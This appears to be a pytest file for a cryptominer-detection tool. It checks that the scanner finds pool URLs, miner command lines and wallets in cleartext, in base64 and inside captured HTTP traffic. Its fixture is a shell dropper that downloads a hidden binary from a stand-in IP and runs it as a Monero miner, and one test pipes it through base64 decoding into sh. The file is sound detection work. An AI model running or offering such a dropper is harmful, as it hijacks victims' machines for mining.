"""Pool URLs and miner command lines in cleartext and base64 (all three alignments), and through a whole
analysis: a downloaded script over HTTP; ordinary pages are quiet."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from minerwatch.capture.writer import TcpConversation
from minerwatch.detectors.indicator_scan import scan

WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
SCRIPT = (
    b"#!/bin/sh\ncurl -o /tmp/.x http://203.0.113.5/x\nchmod +x /tmp/.x\n"
    b"/tmp/.x -o pool.supportxmr.com:443 -u " + WALLET.encode() + b" --donate-level=1 -B\n"
    b"echo url=stratum+ssl://gulf.moneroocean.stream:20128 >> cfg\n"
)


def kinds(found) -> set[tuple[str, str | None]]:
    return {(i.kind, i.encoding) for i in found}


def test_cleartext_script():
    found = scan(SCRIPT)
    texts = {i.text for i in found}
    assert "stratum+ssl://gulf.moneroocean.stream:20128" in texts and "--donate-level=1" in texts
    [cmdline] = [i for i in found if i.text.startswith("-o ")]
    assert cmdline.wallet == WALLET


@pytest.mark.parametrize("shift", [0, 1, 2])
def test_base64_at_every_alignment(shift):
    encoded = b"echo " + base64.b64encode(b"#" * shift + SCRIPT) + b" | base64 -d | sh"
    found = scan(encoded)
    assert kinds(found) == {("pool-url", "base64"), ("miner-cmdline", "base64")}
    assert "stratum+ssl://gulf.moneroocean.stream:20128" in {i.text for i in found}
    assert any(i.wallet == WALLET for i in found)


@pytest.mark.parametrize(
    "text",
    [
        b"<html><body>curl -o out.html https://example.org -u admin</body></html>",
        b"GET /stratum-docs/ HTTP/1.1\r\n",
        base64.encodebytes(bytes(range(256)) * 40),
    ],
)
def test_ordinary_content_is_quiet(text):
    assert scan(text) == []


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=4000))
def test_garbage_never_raises_and_is_bounded(data):
    assert len(scan(data)) <= 16


def test_a_downloaded_script_yields_pool_url_and_cmdline_events(write_capture, analyse):
    c = TcpConversation("10.3.0.4", 51000, "203.0.113.5", 80).open()
    c.send(True, b"GET /install.sh HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n")
    c.send(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(SCRIPT) + SCRIPT)
    events = analyse(write_capture(c.close().packets))
    found = [e["mining"] for e in events if e["event_type"] == "mining"]
    assert {m["behaviour"] for m in found} == {"pool-url", "miner-cmdline"}
    assert all(m["seen_in"] == "http-response-body" and m["direction"] == "toclient" for m in found)
    assert {m["dialect"] for m in found} == {"stratum", "cmdline"}
    [wallet] = [m["wallet"] for m in found if "wallet" in m]
    assert wallet == {"address": WALLET, "coin": "XMR", "kind": "standard", "checksum_valid": True}
    # Indicators are never stage evidence; a known pool in the script can only make an intel suspect.
    assert all(e["verdict"]["stages"] == [] for e in events if e["event_type"] == "verdict")
